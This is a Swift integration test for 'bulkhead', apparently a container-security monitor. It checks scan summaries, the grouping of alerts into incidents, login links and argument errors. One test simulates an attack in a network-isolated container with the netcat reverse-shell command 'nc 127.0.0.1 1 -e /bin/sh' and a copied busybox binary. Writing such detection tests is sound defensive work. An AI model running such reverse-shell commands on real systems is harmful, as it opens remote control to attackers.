import Foundation
import Parsing
import Store
import TestKit
import Testing

/// `bulkhead up` with a real engine: the first round, the page, an attack that becomes one incident, the end.
@Suite(.serialized, .enabled(if: RealEngine.isPossible && RealProgram.isBuilt && Tool.find("busybox") != nil))
struct UpTests {
  /// The sensor sees the containers of other tests too: this one's are known by their name.
  static let name = "up-attacked"

  static func incidents(_ store: Store) throws -> [IncidentRecord] {
    try store.incidents.page(IncidentQuery()).elements.filter { $0.containers.contains(name) }
  }

  static func alerts(_ store: Store) throws -> [StoredAlert] {
    var query = AlertQuery()
    query.text = name
    return try store.alerts.page(query).elements
  }

  /// Waits for a condition, three minutes at most: other tests load the machine.
  static func wait(_ condition: () throws -> Bool) rethrows -> Bool {
    for _ in 0..<18_000 {
      if try condition() { return true }
      usleep(10_000)
    }
    return false
  }

  @Test func oneRoundIsSummedUp() throws {
    let folder = try TemporaryDirectory()
    let engine = try RealEngine()
    try folder.write("base/etc/os-release", "ID=debian\nVERSION_ID=12\n")
    _ = try engine.image("shop:1", layers: [folder.path + "/base"])
    let program = RealProgram(home: folder.path + "/home", ["BULKHEAD_NO_UPDATE": "1"])
    let outcome = try program.run("up", "--once", "--engine", engine.socket)
    #expect(outcome.status == 0, "\(outcome)")
    #expect(outcome.output.contains("1 images, 1 of them scanned"), "\(outcome)")
    #expect(outcome.output.contains("cis-docker-1.8.0:") && outcome.output.contains("failed"), "\(outcome)")
  }

  @Test func anAttackIsOneIncidentOnThePage() throws {
    let folder = try TemporaryDirectory()
    let engine = try RealEngine()
    try folder.write("base/bin/.keep", "")
    try folder.write("base/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
    try FileManager.default.copyItem(
      atPath: try #require(Tool.find("busybox")), toPath: folder.path + "/base/bin/busybox")
    for link in ["sh", "cp", "nc", "sleep"] {
      try FileManager.default.createSymbolicLink(
        atPath: folder.path + "/base/bin/" + link, withDestinationPath: "busybox")
    }
    try folder.write("base/tmp/.keep", "")
    _ = try engine.image("shop:1", layers: [folder.path + "/base"])
    let home = folder.path + "/home"
    let program = RealProgram(home: home, ["BULKHEAD_NO_UPDATE": "1"])
    let running = try program.start(["up", "--port", "0", "--engine", engine.socket])
    defer { running.kill() }
    #expect(Self.wait { running.errors.contains("/enter/") }, "\(running.errors)")
    let link = try #require(running.errors.firstMatch(of: /http:\/\/127\.0\.0\.1:[0-9]+\/enter\/[-_A-Za-z0-9]+/)?.0)

    // Beside the program that writes: the same store, as another process sees it.
    let store = try Store(home: home)
    func health(_ name: String) throws -> ServiceHealth? { try store.health.all().first { $0.service == name } }
    #expect(try Self.wait { ![nil, .starting].contains(try health("sensor")?.state) })
    guard let sensor = try health("sensor"), sensor.state != .failed else {
      print("skipped: an attack on the page: the sensor can't run here: \(try health("sensor")?.message ?? "")")
      return
    }
    let started = try? engine.docker([
      "run", "-d", "--name", Self.name, "--network", "none", "shop:1", "/bin/sleep", "600",
    ])
    guard started != nil else {
      print("skipped: an attack on the page: the engine can't start containers here")
      return
    }
    #expect(try Self.wait { try store.containers.page(text: Self.name).elements.first?.state == .running })
    _ = try? engine.docker([
      "exec", Self.name, "/bin/sh", "-c", "cp /bin/busybox /tmp/x; /tmp/x sleep 0; nc 127.0.0.1 1 -e /bin/sh",
    ])
    #expect(try Self.wait { try Self.alerts(store).count { $0.finding.severity >= .high } >= 2 })
    #expect(
      try Self.wait {
        let incidents = try Self.incidents(store)
        return try incidents.count == 1
          && Self.alerts(store).filter { $0.finding.severity >= .high }.allSatisfy { $0.incident == incidents[0].id }
      })
    let incident = try #require(try Self.incidents(store).first)
    #expect(incident.containers == [Self.name])
    #expect(try Self.wait { try store.images.page().elements.first?.scannedAt != nil })
    #expect(try Self.wait { try !store.compliance.benchmarks().isEmpty })

    // The link that was printed lets in; another `login-link` makes another.
    let cookies = folder.path + "/cookies"
    let site = String(link.prefix(upTo: try #require(link.range(of: "/enter/")).lowerBound))
    _ = try Tool.run("curl", ["-s", "-o", "/dev/null", "-c", cookies, "-X", "POST", String(link)])
    let page = try Tool.run("curl", ["-s", "-b", cookies, site + "/incidents"])
    #expect(page.contains(incident.id), "\(page)")
    let again = try program.run("login-link", "--user", "ada", "--role", "viewer")
    #expect(again.status == 0 && again.output.contains("/enter/"), "\(again)")

    try store.close()
    Glibc.kill(running.process.processIdentifier, SIGTERM)
    #expect(running.ends(within: 120_000))
    #expect(running.outcome().status == 0, "\(running.errors)")
    let after = try Store(home: home)
    #expect(try after.checkIntegrity().isEmpty)
    #expect(try after.incidents.find(incident.id) != nil)
    try after.close()
  }

  @Test(arguments: [
    (["--port", "70000"], 64, "--port"), (["--tls-key", "k.pem"], 64, "--tls-certificate"),
    (["--address", "0.0.0.0"], 64, "certificate"), (["--tls-certificate", "/nonexistent.pem"], 64, "/nonexistent.pem"),
  ]) func wrongUsageIsNamed(arguments: [String], status: Int32, words: String) throws {
    let folder = try TemporaryDirectory()
    let outcome = try RealProgram(home: folder.path).start(["up"] + arguments).outcome()
    #expect(outcome.status == status && outcome.errors.contains(words), "\(outcome)")
  }
}
